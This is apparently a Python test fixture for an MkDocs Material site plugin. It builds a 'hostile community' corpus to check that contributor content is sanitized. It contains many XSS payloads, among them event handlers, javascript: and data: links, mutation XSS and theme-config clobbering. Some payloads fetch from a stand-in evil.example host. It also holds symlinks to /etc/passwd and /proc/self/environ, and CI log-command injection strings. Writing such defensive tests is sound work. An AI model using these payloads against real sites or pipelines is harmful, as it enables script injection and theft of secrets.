"""A hostile community: every field a reader sees carries payloads that must stay inert text or be dropped.

Payloads announce themselves when they run: they set ``window.__pwned``, call ``alert``/``confirm``/``prompt``,
or make the browser fetch from a host under ``evil.example``. A browser test that sees none of these on any page
has shown that nothing a contributor wrote ran. ``images.example`` is the one outside host a contributor may
name (an ordinary Markdown image in a practice): it is the control that proves outside requests are seen.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path
from typing import Mapping

from cop_site.model import slugify

EVIL_HOST = "evil.example"
"""Every payload that would make a request names a host under this one."""
IMAGE_HOST = "images.example"
"""A legitimate outside image in a practice body: the positive control for request monitoring."""

# The same payloads go into every field. Each is at most 100 characters, so that it fits the shorter fields
# (tags, terms, aliases); fields with a lower limit (pronouns: 50) report the long ones as too long.
PAYLOADS: tuple[str, ...] = (
    # Plain script and event handlers.
    "<script>__pwned=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=__pwned=1>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>__pwned=1</script></svg>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "<iframe src=https://evil.example/frame></iframe>",
    "<form action=https://evil.example/f><button>Go</button></form>",
    "<style>*{display:none!important}</style>",
    "<div style=\"position:fixed;inset:0;background:url(https://evil.example/bg)\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/r\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=https://evil.example/o></object>",
    "<embed src=https://evil.example/e>",
    "<details open ontoggle=__pwned=1>",
    "<body onload=__pwned=1>",
    "<input autofocus onfocus=__pwned=1>",
    "<video poster=https://evil.example/p><source src=x onerror=alert(1)></video>",
    # Links with dangerous schemes, in raw HTML and in Markdown.
    "<a href=\"javascript:__pwned=1\">js</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">mixed</a>",
    "<a href=\"&#106;avascript:alert(1)\">entity</a>",
    "<a href=\"java&#x09;script:alert(1)\">tab</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">data</a>",
    "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "[md](javascript:__pwned=1)",
    "[md](JaVaScRiPt:alert(1))",
    "[md](&#106;avascript:alert(1))",
    "[md](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[md](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "![i](x\" onerror=\"alert(1))",
    "![i](data:image/svg+xml,<svg onload=alert(1)>)",
    "[ref][evil]\n\n[evil]: javascript:alert(1)",
    # attr_list and Markdown syntax injection.
    "{: onclick=alert(1) }",
    "text{: onmouseover=\"__pwned=1\" }",
    "{: #__config data-md-component=source }",
    "`code` *em* _u_ **b** ~~s~~ ==m== ^^i^^",
    "# heading\n\n- list\n\n> quote",
    # Entity tricks, look-alikes, comments.
    "&lt;script&gt;__pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\uff1cscript\uff1e__pwned=1\uff1c/script\uff1e",
    "\uff1cimg src=x onerror=alert(1)\uff1e",
    "<!-- <script>__pwned=1</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    # Mutation XSS and tooltip/innerHTML sinks of the theme.
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<a title=\"<img src=x onerror=__pwned=1>\">tip</a>",
    "[tip](https://example.org \"<img src=x onerror=__pwned=1>\")",
    "<abbr title=\"<img src=x onerror=alert(1)>\">ABBR</abbr>",
    # Theme clobbering: Material reads its configuration from #__config and mounts [data-md-component] elements.
    "<div id=\"__config\">{}</div>",
    "<a data-md-component=\"source\" href=\"https://gitlab.evil.example/a/b\">src</a>",
    "<label for=\"__search\">search</label><span id=\"__search\"></span>",
)

# A fuller clobbering payload, too long for short fields: if Material read it as its configuration, opening
# the search would print a translation with innerHTML.
CONFIG_CLOBBER = ('<div id="__config">{"base":".","features":["content.tooltips"],"search":"search/search_index.js",'
                  '"tags":null,"version":null,"translations":{' + ",".join(
                      f'"{key}":"<img src=x onerror=__pwned=1>"' for key in (
                          "clipboard.copy", "clipboard.copied", "search.result.placeholder", "search.result.none",
                          "search.result.one", "search.result.other", "search.result.more.one",
                          "search.result.more.other", "search.result.term.missing", "select.version")) + "}}</div>")


def practice_body(payloads: tuple[str, ...] | list[str], index: int = 0) -> str:
    """A practice body that uses each payload in the block and inline places Markdown offers."""
    parts = ["Some prose that uses the retrospective, a term of the glossary.", ""]
    for number, payload in enumerate(payloads, start=index):
        one_line = payload.replace("\n", " ")
        parts += [payload, "", f"Inline {one_line} text.", "", f"## {one_line}", "",
                  f"!!! note \"{one_line}\"", f"    {one_line}", "",
                  f"=== \"{one_line}\"", "", f"    {one_line}", "",
                  f"| {one_line} | b |", "|---|---|", f"| a | {one_line} |", "",
                  f"A footnote[^{number}].", "", f"[^{number}]: Note: {one_line}", ""]
    parts += [
        CONFIG_CLOBBER, "",
        "*[ABBR]: <img src=x onerror=alert(1)>", "",
        "Uses ABBR here.", "",
        "```html", "<script>__pwned=1</script>", "```", "",
        f"![a legitimate outside image](https://{IMAGE_HOST}/ok-{index}.png)", "",
        "<div markdown>", "*md_in_html* <img src=x onerror=alert(1)>", "</div>", "",
        "## Heading {: onclick=alert(1) data-md-component=announce #__config }", "",
        "<svg><a href=\"javascript:alert(1)\"><text>svg link</text></a><animate attributeName=href "
        "to=javascript:alert(1)></animate></svg>", "",
    ]
    return "\n".join(parts) + "\n"


HAND_WRITTEN_FRONT_MATTER = {
    "content/about.md": "---\ntitle: \"About <img src=x onerror=__pwned=1>\"\ndescription: '\"><script>__pwned=1</script>'\n"
                        "---\n\n# About\n\nA hand-written page.\n",
}
"""A hand-written page (docs_dir is contributed to by pull request too) whose front matter the theme prints."""


OUTSIDE_SECRET = "HOSTILE-OUTSIDE-SECRET-91c2"
"""In every file outside the repository that a link of the corpus points at: it must appear nowhere."""

LINKS = {
    "practices/alpha/passwd.txt": "/etc/passwd",
    "practices/alpha/environ.txt": "/proc/self/environ",
    "practices/alpha/git-config.txt": "@repo/.git/config",
    "members/hostile-link.yml": "outside/member.yml",
    "practices/delta": "outside/domain",
    "content/leak.md": "outside/page.md",
    "content/leaks": "outside/pages",
}
"""Symbolic links a pull request could add (link -> target: an absolute path, outside/..., or @repo/...)."""


def make_links(repo: Path, outside: Path) -> None:
    """Write the files outside the repository and the corpus's symbolic links to them (before committing)."""
    secret = OUTSIDE_SECRET
    for relative, content in {
        "member.yml": f"name: {secret}\n", "page.md": f"# {secret}\n", "pages/index.md": f"# {secret}\n",
        "domain/domain.yml": f"title: {secret}\nsummary: {secret}\nstewards: [ada-okafor]\n",
        "domain/p.md": f"---\ntitle: {secret}\nsummary: {secret}\nstewards: [ada-okafor]\n---\n{secret}\n",
    }.items():
        (outside / relative).parent.mkdir(parents=True, exist_ok=True)
        (outside / relative).write_text(content, encoding="utf-8")
    for link, target in LINKS.items():
        destination = (Path(target) if target.startswith("/") else repo / target.removeprefix("@repo/")
                       if target.startswith("@repo/") else outside / target.removeprefix("outside/"))
        (repo / link).parent.mkdir(parents=True, exist_ok=True)
        (repo / link).symlink_to(destination, target_is_directory=destination.is_dir())


IMPOSTOR = "IMPOSTOR of hostile-00: write to evil@evil.example"
HOSTILE_FILES = {
    "content/evil.html": "<!doctype html><script>__pwned=1</script><img src=x onerror=__pwned=1>",
    "content/pic.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="__pwned=1"><script>__pwned=1</script></svg>',
    "content/app.js": "window.__pwned = 1;",
    "content/style.css": "body{background:url(https://evil.example/bg)}",
    "content/people/hostile-00/index.md": f"# Impostor\n\n{IMPOSTOR}\n",
    "content/cop.json": json.dumps({"members": [{"name": IMPOSTOR}]}),
    "content/front.md": "---\ntemplate: ../../../etc/passwd\nicon: \"<img src=x onerror=__pwned=1>\"\nhide: 5\n"
                        "search: \"x\"\ntags: [[1]]\n---\n\n# Front matter the theme cannot use\n",
    "content/loop.md": "---\ntitle: &a [*a, \"<img src=x onerror=__pwned=1>\"]\n---\n\n# Front matter that holds itself\n",
    "members/hostile-newline.yml": 'name: Newline\n"x\\n::error file=README.md::pwned": 1\n'
                                   'status: "active\\n::add-mask::x"\n',
}
"""Files that would reach readers around the sanitizer: scripts and styles at the site's origin, a theme file, a
page at a member's and at cop.json's address, front matter that stops the build, YAML that prints log lines."""


def theme_bundle() -> str:
    """The docs_dir path of Material's JavaScript bundle, which a file there would replace on every page."""
    from importlib import resources

    folder = Path(resources.files("material")) / "templates" / "assets" / "javascripts"  # type: ignore[arg-type]
    return "content/assets/javascripts/" + next(p.name for p in folder.glob("bundle.*.min.js"))


def _y(value: object) -> str:
    """A YAML value (JSON is YAML), so that every payload is written exactly."""
    return json.dumps(value, ensure_ascii=False)


MKDOCS_YML = """\
site_name: Hostile CoP
site_url: https://example.org/hostile/
docs_dir: content
theme:
  name: material
  font: false
  features: [navigation.indexes, content.tooltips, content.footnote.tooltips, content.code.annotate,
             search.suggest, search.highlight, content.tabs.link]
plugins:
  - search
  - cop-site
markdown_extensions:
  - abbr
  - admonition
  - attr_list
  - md_in_html
  - footnotes
  - tables
  - toc:
      permalink: true
  - pymdownx.details
  - pymdownx.superfences
  - pymdownx.tabbed:
      alternate_style: true
  - pymdownx.highlight
  - pymdownx.inlinehilite
"""

DOMAINS = ("alpha", "beta", "gamma")
"""Group i's practice lives in DOMAINS[i % 3]; its member expertise spans them too."""


def _groups(limit: int) -> list[list[str]]:
    """The payloads (each on one line) in groups whose joined text fits in ``limit`` characters."""
    out: list[list[str]] = [[]]
    for payload in PAYLOADS:
        one = payload.replace("\n", " ")
        if out[-1] and len(" ".join(out[-1])) + 1 + len(one) > limit:
            out.append([])
        out[-1].append(one)
    return out


GROUPS = _groups(200)
"""Payloads grouped to fit the 200-character fields: one member and one practice per group."""


def member_id(index: int) -> str:
    return f"hostile-{index:02d}"


def practice_key(index: int) -> str:
    return f"{DOMAINS[index % len(DOMAINS)]}/p{index:02d}"


def _terms_of(domain: str) -> list[int]:
    """The payloads that are terms of ``domain``: spread over the domains so that no two in one domain share an
    anchor (``<script>`` and ``＜script＞`` both slugify to 'script'; that collision has a test of its own)."""
    placed: dict[str, list[int]] = {d: [] for d in DOMAINS}
    anchors: dict[str, set[str]] = {d: set() for d in DOMAINS}
    for i, payload in enumerate(PAYLOADS):
        for shift in range(len(DOMAINS)):
            d = DOMAINS[(i + shift) % len(DOMAINS)]
            if slugify(payload) not in anchors[d]:
                placed[d].append(i)
                anchors[d].add(slugify(payload))
                break
    return placed[domain]


def hostile_files() -> dict[str, str]:
    """The hostile community: per group of payloads one member and one practice; a term per payload.

    Every text field of every kind of file holds every payload somewhere: a field with a 200-character limit
    holds one group, a shorter one (pronouns, tags, terms, e-mail, GitHub) one payload at a time.
    """
    n = len(GROUPS)
    files: dict[str, str] = {
        "mkdocs.yml": MKDOCS_YML,
        "content/index.md": "# Hostile CoP\n\n" + "\n\n".join(PAYLOADS) + "\n",
        "members/ada-okafor.yml": "name: Ada Okafor\nexpertise: {alpha: expert}\nmentor: true\n",
        **HOSTILE_FILES,
        theme_bundle(): "window.__pwned = 1;",
    }
    for i, group in enumerate(GROUPS):
        text = " ".join(group)
        first = group[0]
        files[f"members/{member_id(i)}.yml"] = "\n".join([
            f"name: {_y(text)}",
            f"role: {_y(text)}",
            f"organization: {_y(text)}",
            f"location: {_y(text)}",
            f"pronouns: {_y(first)}",
            f"timezone: {_y(first)}",
            "joined: \"2024-01-01\"",
            f"status: {'alumni' if i % 5 == 3 else 'active'}",
            # A bio is Markdown: a leading '#' makes it a heading, a known gap with a test of its own.
            f"bio: {_y('Bio: ' + text + ' ' + PAYLOADS[-1])}",
            f"expertise: {{{DOMAINS[i % 3]}: expert, {DOMAINS[(i + 1) % 3]}: learning}}",
            f"topics: {_y(group)}",
            f"learning: {_y(group + [DOMAINS[(i + 2) % 3]])}",
            f"mentor: {'true' if i % 2 else 'false'}",
            "contact: " + _y({"chat": text, "email": first, "github": first, "gitlab": text,
                              "mastodon": text, "website": first}),
            "links: " + _y([{"label": text, "url": first},
                            *({"label": payload, "url": payload} for payload in group[1:]),
                            {"label": "js", "url": "JaVaScRiPt:__pwned=1"},
                            {"label": "data", "url": "data:text/html,<script>alert(1)</script>"},
                            {"label": "vb", "url": "vbscript:msgbox(1)"},
                            {"label": "tab", "url": "java\tscript:alert(1)"},
                            {"label": "entity", "url": "&#106;avascript:alert(1)"},
                            {"label": "quote", "url": "https://example.org/\" onmouseover=\"__pwned=1"}]),
            f"aliases: {_y(group)}",
            "",
        ])
    for d, domain in enumerate(DOMAINS):
        files[f"practices/{domain}/domain.yml"] = (
            f"title: {_y(' '.join(GROUPS[d % n]))}\n"
            f"summary: {_y(' '.join(g for group in GROUPS[d::len(DOMAINS)] for g in group)[:1000])}\n"
            f"stewards: [ada-okafor, {member_id(d)}]\n")
        terms = []
        for i in _terms_of(domain):
            terms.append({"term": PAYLOADS[i].replace("\n", " "),
                          "definition": "Means " + PAYLOADS[i] + " " + PAYLOADS[(i + 1) % len(PAYLOADS)],
                          "aliases": [PAYLOADS[(i + 2) % len(PAYLOADS)].replace("\n", " ")],
                          "see": [f"p{(i // 5) % n:02d}"]})
        terms.append({"term": "Retrospective", "definition": "<img src=x onerror=__pwned=1> a look back "
                      "[x](javascript:alert(1)) <b>bold</b> &lt;b&gt; <img src=x onerror=alert(1)",
                      "aliases": ["retro"]})
        files[f"practices/{domain}/glossary.yml"] = "".join(
            "- " + "\n  ".join(f"{key}: {_y(value)}" for key, value in term.items()) + "\n" for term in terms)
    for i, group in enumerate(GROUPS):
        files[f"practices/{practice_key(i)}.md"] = "\n".join([
            "---",
            f"title: {_y(' '.join(group))}",
            f"summary: {_y(' '.join(group))}",
            f"stewards: [ada-okafor, {member_id(i)}]",
            f"domains: [{DOMAINS[(i + 1) % 3]}]",
            f"tags: {_y(group)}",
            f"related: [{practice_key((i + 1) % n)}]",
            "---",
            "",
            practice_body([p for p in PAYLOADS if p.replace(chr(10), ' ') in group], i),
        ])
    return files


# --- git, with a fixed identity and fixed dates, whatever machine runs the tests ---------------------------------

def git_env(who: str, email: str, when: str) -> dict[str, str]:
    return {**os.environ, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1",
            "GIT_AUTHOR_NAME": who, "GIT_AUTHOR_EMAIL": email, "GIT_AUTHOR_DATE": when,
            "GIT_COMMITTER_NAME": who, "GIT_COMMITTER_EMAIL": email, "GIT_COMMITTER_DATE": when,
            "TZ": "UTC", "LC_ALL": "C"}


def git(repo: Path, *args: str, who: str = "Ada Okafor", email: str = "ada@example.org",
        when: str = "2026-03-01T12:00:00Z") -> str:
    """Run git in a test repository with a fixed identity and date."""
    return subprocess.run(["git", *args], cwd=repo, env=git_env(who, email, when), check=True,
                          capture_output=True, text=True).stdout


def commit_files(repo: Path, files: Mapping[str, str | bytes], *, who: str = "Ada Okafor",
                 email: str = "ada@example.org", when: str = "2026-03-01T12:00:00Z", message: str = "Add files") -> None:
    """Write ``files`` under ``repo`` and commit them (``git init`` first if needed)."""
    if not (repo / ".git").exists():
        repo.mkdir(parents=True, exist_ok=True)
        git(repo, "init", "-q", "-b", "main")
    for relative, content in files.items():
        path = repo / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "--no-gpg-sign", "-m", message, who=who, email=email, when=when)
